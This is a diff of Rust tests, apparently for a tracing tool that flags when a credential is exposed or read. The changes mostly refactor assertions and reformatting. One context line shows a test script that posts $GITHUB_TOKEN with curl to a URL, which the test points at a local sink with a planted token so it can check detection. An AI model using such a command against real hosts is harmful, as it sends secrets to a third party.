@@ -225,28 +225,30 @@ pub fn trace_shows_events() {
     assert!(events[1].contains(&format!(" id={}", planted.identifier.as_deref().unwrap())));
 
     // Nothing but events, each whole.
-    let kinds = |events: &[Event]| events.iter().map(|e| e.what()).collect::<Vec<_>>();
-    let expected = ["credential_exposed", "credential_read"];
+    let expected = |events: &[Event]| {
+        let kinds: Vec<_> = events.iter().map(|e| e.what()).collect();
+        let all = crate::events::list(events);
+        assert_eq!(kinds, ["credential_exposed", "credential_read"], "{all}");
+    };
     let events = parse_lines(&traced(&|| trace::shown(&scratch, &["-o", "json"])).join("\n"));
-    assert_eq!(kinds(&events), expected);
+    expected(&events);
     assert!(events[1].shows(&planted) && Path::new(events[1].path()) == file);
 
     let stored = || parse_lines(&fs::read_to_string(trace::file(&scratch)).unwrap());
     let events = parse_lines(&traced(&|| trace::command(&scratch, &["-o", "json"])).join("\n"));
-    assert_eq!(kinds(&events), expected);
+    expected(&events);
     assert_eq!(
         events,
         stored(),
         "the file and the terminal tell different stories"
     );
-    is_all(&columns(&traced(&|| trace::command(
-        &scratch,
-        &["-o", "compact"],
-    ))));
-    assert_eq!(kinds(&stored()), expected);
+    is_all(&columns(&traced(&|| {
+        trace::command(&scratch, &["-o", "compact"])
+    })));
+    expected(&stored());
 
     let lines = traced(&|| trace::command(&scratch, &[]));
-    assert_eq!(kinds(&stored()), expected);
+    expected(&stored());
     assert!(
         lines[0].starts_with("-- trace of sh "),
         "events beside the file: {lines:#?}"
@@ -274,12 +276,12 @@ curl -s -d t=$GITHUB_TOKEN \"$3\"; fi; :\n",
     .unwrap();
     let act = || {
         trace::command(&scratch, &[])
-        .arg("sh")
-        .arg(&script)
-        .arg("40")
-        .arg(&file)
-        .arg(format!("http://127.0.0.1:{}/in", sink.port))
-        .env("GITHUB_TOKEN", &token.value)
+            .arg("sh")
+            .arg(&script)
+            .arg("40")
+            .arg(&file)
+            .arg(format!("http://127.0.0.1:{}/in", sink.port))
+            .env("GITHUB_TOKEN", &token.value)
     };
     let traced = trace::run_in_time(&scratch, act);
     assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
@@ -362,8 +364,8 @@ pub fn trace_of_a_short_command() {
     let scratch = Scratch::new();
     let act = || {
         trace::command(&scratch, &[])
-        .arg("true")
-        .env("GITHUB_TOKEN", plant::github().value)
+            .arg("true")
+            .env("GITHUB_TOKEN", plant::github().value)
     };
     let traced = trace::run_in_time(&scratch, act);
     assert_eq!(traced.done.code(), 0);
@@ -482,10 +484,7 @@ pub fn doctor_names_every_signal() {
                 .run();
             // That no agent answers is not well, whatever could be tried.
             assert!(
-                matches!(
-                    (running, done.code()),
-                    (true, 0) | (true, 1) | (false, 3)
-                ),
+                matches!((running, done.code()), (true, 0 | 1) | (false, 3)),
                 "{}: {}",
                 done.code(),
                 done.stderr_text()
